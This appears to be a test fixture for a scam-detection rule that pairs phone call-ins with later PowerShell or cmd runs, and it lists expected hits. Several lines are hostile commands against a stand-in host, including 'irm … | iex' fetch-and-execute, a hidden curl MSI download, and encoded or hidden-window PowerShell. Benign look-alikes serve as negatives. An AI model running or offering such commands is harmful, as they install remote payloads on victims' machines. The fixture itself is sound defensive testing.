# As attackers dictate them, and as nobody meant them: hidden files, a word for a number of lines, the
# name of a library, a URL that nothing fetches.
person ana
person ben
person eva
person ole
person pia
person rob
person sue
person tim
person ulf
10:02 ana call-in +442079460032 14m
10:08 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -c irm https://files.example/x | iex"
10:02 ben call-in +442079460033 14m
10:08 ben run C:\Windows\System32\cmd.exe cmd="cmd /c start /min curl.exe -o %TEMP%\a.msi https://files.example/a.msi"
10:02 eva call-in +442079460034 14m
10:08 eva run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell /W Hidden -NoP -c calc"
10:02 ole call-in +442079460035 14m
10:08 ole run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -NoP -e SQBFAFgAIAAoAA=="
10:02 pia call-in +442079460036 14m
10:08 pia run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -WindowStyle:Hidden -File a.ps1"
10:02 rob call-in +442079460037 14m
10:08 rob run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell Get-ChildItem -Hidden"
10:02 sue call-in +442079460038 14m
10:08 sue run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell Get-Content -e 3 C:\hidden\a.txt"
10:02 tim call-in +442079460039 14m
10:08 tim shell "grep -r libcurl https://files.example/notes"
10:02 ulf call-in +442079460040 14m
10:08 ulf shell "git clone https://files.example/curl-devel"
expect: ana hits=C9,F7 says="fetch by command"
expect: ben hits=C9,F7 says="fetch by command"
expect: eva hits=C9,F7 says="hidden shell"
expect: ole hits=C9,F7 says="encoded shell"
expect: pia hits=C9,F7 says="hidden shell"
expect: rob none
expect: sue none
expect: tim none
expect: ulf none
